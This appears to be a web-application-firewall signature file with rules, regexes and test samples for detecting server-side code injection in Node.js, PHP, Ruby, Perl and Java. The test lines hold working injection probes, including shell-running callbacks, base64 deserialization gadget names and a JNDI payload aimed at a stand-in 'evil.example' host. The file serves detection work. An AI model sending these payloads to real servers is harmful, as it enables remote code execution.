# Server-side code injection reached indirectly (ids 300005473-300005499): code carried as JSON
# text or base64 inside a value, callbacks and reflection that name the function or class as a
# string, language variables and operators that no other text writes, and the template-engine
# probes a tester sends before knowing the engine.
# Format: see crates/engine/src/signatures/db.rs. Pass examples are drawn from real traffic.

id: 300005473
name: JavaScript prototype pollution: `constructor.prototype` written as JSON text inside a value
# A parameter, header or cookie carrying a JSON document is parsed by the application, not by the
# WAF's JSON walk, so the key path is not judged there: `{"constructor":{"prototype":{...}}}`
# merged into an object reaches `Object.prototype`. JSON data names a `constructor` key for
# people (a builder's name) but never gives it a `prototype` member.
type: Server Side Code Injection
accuracy: high
risk: high
systems: Node.js
targets: @values, header, url, param-name
unless: binary
literal: prototype
regex: ['"]constructor['"]\s*:\s*\{\s*['"]prototype['"]\s*:
test: {"constructor":{"prototype":{"admin":true}}}
test: {"user":{"constructor": {"prototype": {"isAdmin": 1}}}}
pass: {"constructor":"Ferrari","prototype":"SF-23"}
pass: {"name":"Widget","constructor":{"name":"Acme"}}

id: 300005474
name: PHP code injection: predefined variables other than the superglobals
# Besides the superglobals, PHP fills `$http_response_header`, `$php_errormsg`, `$argv`/`$argc`
# in every script: code that reads them (`echo $http_response_header[0]`) is PHP, and no other
# language or text spells them with the `$`.
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: $http_response_header
literal: $php_errormsg
literal: $argv
literal: $argc
regex: \$(?:http_response_header|php_errormsg)\b|\$arg[vc]\s*(?:\[|[;)=,.]|$)
test: $http_response_header
test: echo $php_errormsg;
test: system($argv[1]);
pass: the argv array holds the arguments
pass: $argvalue = 10

id: 300005475
name: Server-side template injection: a probe chaining the delimiters of several template engines
# A tester who does not know the engine sends the openers of all of them together
# (`${{<%[%'"}}%\.`), to see which one errors: three openers (`${`, `{{`, `<%`, `[%`, `{%`, `#{`)
# with at most punctuation between them. Templates and code write a name or an expression after
# an opener, not another opener.
type: Server Side Code Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: ${
literal: {{
literal: <%
literal: [%
literal: {%
literal: #{
regex: (?:\$\{|\{\{|<%|\[%|\{%|#\{)[^\w\s]{0,3}(?:\$\{|\{\{|<%|\[%|\{%|#\{)[^\w\s]{0,3}(?:\$\{|\{\{|<%|\[%|\{%|#\{)
test: ${{<%[%'"}}%\\.
test: <%={{#{${7*7}}}%>
test: {{<%[%
pass: ${{ secrets.GITHUB_TOKEN }}
pass: {% if user %}{{ user.name }}{% endif %}
pass: <%= link_to "Home", root_path %>

id: 300005476
name: Ruby code injection: reflection through ObjectSpace, constants and instance variables
# Injected Ruby reaches objects it was not handed through `ObjectSpace.each_object`/`_id2ref`,
# turns a string into a class with `const_get`, reads and writes an object's state with
# `instance_variable_get`/`_set`, and takes a method by name with `.method(:system)`.
type: Server Side Code Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: objectspace
literal: const_get
literal: instance_variable_
literal: class_variable_
literal: method
regex: \bobjectspace\s*(?:\.|::)\s*(?:each_object|_id2ref|garbage_collect|count_objects|define_finalizer)\b|\b(?:const_get|instance_variable_[gs]et|class_variable_[gs]et)\s*[(:'"]|\.\s*method\s*\(?\s*:\s*(?:system|exec|spawn|eval|popen|send|instance_eval|`)
test: ObjectSpace.each_object(Class).to_a
test: Object.const_get("Kernel").system("id")
test: u.instance_variable_set(:@admin, true)
test: Kernel.method(:system).call("id")
pass: Ruby's ObjectSpace module docs
pass: payment method: card

id: 300005477
name: Perl code injection: `open` with a pipe in its mode or file name runs a command
# Perl's two-argument `open(F, "id|")` and `open(F, "|sh")`, and the three-argument
# `open(my $f, "-|", ...)`, start a process; the pipe at the string's start or end is the marker,
# a file name in an `open` call of any language ends with a name.
type: Server Side Code Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: open
regex: \bopen\s*\(?\s*(?:my\s+)?[$*]?\w+\s*,\s*(?:['"]\s*\|[^'"\r\n]{0,200}['"]|['"][^'"\r\n]{1,200}\|\s*['"]|['"]-?\|-?['"])
test: open(my $f, "id|")
test: open(F,"|/bin/sh")
test: open my $fh, '-|', 'id'
pass: window.open(url, "_blank")
pass: open(f, "a|b.txt")

id: 300005478
name: Java deserialization: Java gadget and class names inside base64 data
# A serialized object, a JNDI reference or a script sent base64-encoded hides the class names
# a gadget chain needs (`java.lang.Runtime`, `InvokerTransformer`, `TemplatesImpl`, ...). Each
# name has three base64 spellings, one per alignment of its first byte; the characters fixed by
# the name alone are listed, so the name is found wherever it sits in a longer blob. Random
# base64 of that length matching one of them is vanishingly rare.
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
literal: amF2YS5sYW5nLlJ1bnRp
literal: phdmEubGFuZy5SdW50aW1l
literal: qYXZhLmxhbmcuUnVudGlt
literal: UHJvY2Vzc0J1aWxk
literal: Byb2Nlc3NCdWlsZGVy
literal: Qcm9jZXNzQnVpbGRl
literal: SW52b2tlclRyYW5zZm9ybWVy
literal: ludm9rZXJUcmFuc2Zvcm1l
literal: JbnZva2VyVHJhbnNmb3Jt
literal: Q2hhaW5lZFRyYW5zZm9ybWVy
literal: NoYWluZWRUcmFuc2Zvcm1l
literal: DaGFpbmVkVHJhbnNmb3Jt
literal: Q29uc3RhbnRUcmFuc2Zvcm1l
literal: NvbnN0YW50VHJhbnNmb3Jt
literal: Db25zdGFudFRyYW5zZm9ybWVy
literal: SW5zdGFudGlhdGVUcmFuc2Zvcm1l
literal: luc3RhbnRpYXRlVHJhbnNmb3Jt
literal: JbnN0YW50aWF0ZVRyYW5zZm9ybWVy
literal: VGVtcGxhdGVzSW1w
literal: RlbXBsYXRlc0lt
literal: UZW1wbGF0ZXNJbXBs
literal: Z2V0UnVudGlt
literal: dldFJ1bnRp
literal: nZXRSdW50aW1l
literal: SmRiY1Jvd1NldElt
literal: pkYmNSb3dTZXRJbXBs
literal: KZGJjUm93U2V0SW1w
literal: U2NyaXB0RW5naW5lTWFuYWdl
literal: NjcmlwdEVuZ2luZU1hbmFn
literal: TY3JpcHRFbmdpbmVNYW5hZ2Vy
literal: VVJMQ2xhc3NMb2Fk
literal: VSTENsYXNzTG9hZGVy
literal: VUkxDbGFzc0xvYWRl
test: rO0ABXNyABFqYXZhLmxhbmcuUnVudGltZQ==
test: eHggb3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1bmN0b3JzLkludm9rZXJUcmFuc2Zvcm1lciB5eQ==
test: eyJAdHlwZSI6ImNvbS5zdW4ucm93c2V0LkpkYmNSb3dTZXRJbXBsIn0=
pass: eyJ1c2VyIjoiYWxpY2UiLCJydW50aW1lIjoiamF2YSAxNyIsImJ1aWxkZXIiOiJwcm9jZXNzIn0=
pass: iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==

id: 300005479
name: Java deserialization: gadget-chain classes outside the package list of the class-name rule
# Gadget chains of the public tool sets reach code execution through classes of Nashorn,
# ImageIO's filter, `java.beans.EventHandler`, `ServiceLoader`, the JDK's annotation handler,
# Click, Clojure, Hibernate's tuplizer, JBoss interceptors and Weld, json-lib, Jython, ROME,
# Spring's type wrapper, Vaadin, Wicket, Hessian, OpenJPA, Shiro's JNDI factory and Oracle's
# JDBC connector. Values name these packages only to instantiate them (XStream, Jackson, fastjson
# and YAML payloads, serialized streams); stack-trace frames of the same libraries name other
# classes.
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
unless: binary
literal: jdk.nashorn.
literal: javax.imageio.
literal: java.beans.
literal: java.util.serviceloader
literal: sun.reflect.
literal: sun.misc.
literal: org.apache.
literal: clojure.
literal: org.hibernate.
literal: org.jboss.
literal: net.sf.json.
literal: org.python.
literal: com.sun.syndication.
literal: org.springframework.
literal: com.vaadin.
literal: com.caucho.
literal: oracle.jdbc.
literal: br.com.anteros.
regex: \b(?:jdk\.nashorn\.internal\.|javax\.imageio\.imageio\$containsfilter|java\.beans\.eventhandler|java\.util\.serviceloader\$lazyiterator|sun\.reflect\.annotation\.annotationinvocationhandler|sun\.misc\.(?:unsafe|base64decoder)|org\.apache\.(?:click\.|wicket\.util\.upload\.|openjpa\.ee\.|shiro\.jndi\.|aries\.transaction\.|cxf\.jaxrs\.provider\.|ibatis\.datasource\.)|clojure\.(?:core|main)\$|org\.hibernate\.(?:tuple\.component\.|engine\.spi\.typedvalue)|org\.jboss\.(?:interceptor\.|weld\.interceptor\.)|net\.sf\.json\.json(?:object|array)\b|org\.python\.core\.|com\.sun\.syndication\.|org\.springframework\.(?:core\.serializabletypewrapper|beans\.factory\.support\.autowireutils|transaction\.jta\.jtatransactionmanager)|com\.vaadin\.data\.util\.|com\.caucho\.(?:hessian|naming)\.|oracle\.jdbc\.connector\.|br\.com\.anteros\.)
test: <map><entry><jdk.nashorn.internal.objects.NativeString></jdk.nashorn.internal.objects.NativeString></entry></map>
test: <sorted-set><javax.imageio.ImageIO$ContainsFilter>
test: ["org.springframework.transaction.jta.JtaTransactionManager",{"userTransactionName":"ldap://evil.example/a"}]
test: {"@class":"com.sun.syndication.feed.impl.ObjectBean"}
pass: at org.springframework.web.servlet.DispatcherServlet.doDispatch(DispatcherServlet.java:1067)
pass: at org.hibernate.internal.SessionImpl.find(SessionImpl.java:3411)

id: 300005480
name: PHP code injection: a command-running function registered as a callback
# PHP calls a callback named by a string: `register_shutdown_function('system','id')`,
# `set_error_handler`, `ob_start('system')`, `spl_autoload_register`, `iterator_apply`,
# `forward_static_call`, `header_register_callback` run whatever function the string names,
# so a registrar handed `system`, `passthru`, `assert` ... is a call of it written another way.
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: register_shutdown_function
literal: register_tick_function
literal: set_error_handler
literal: set_exception_handler
literal: ob_start
literal: spl_autoload_register
literal: iterator_apply
literal: forward_static_call
literal: header_register_callback
regex: \b(?:register_(?:shutdown|tick)_function|set_(?:error|exception)_handler|ob_start|spl_autoload_register|iterator_apply|forward_static_call(?:_array)?|header_register_callback)\s*\(\s*['"]\s*(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|eval|create_function|include|require|readfile|file_put_contents|mail)['"]
test: register_shutdown_function('system','id')
test: ob_start("passthru");echo "id";
test: set_error_handler('assert');
pass: ob_start('ob_gzhandler')
pass: spl_autoload_register('my_autoloader')
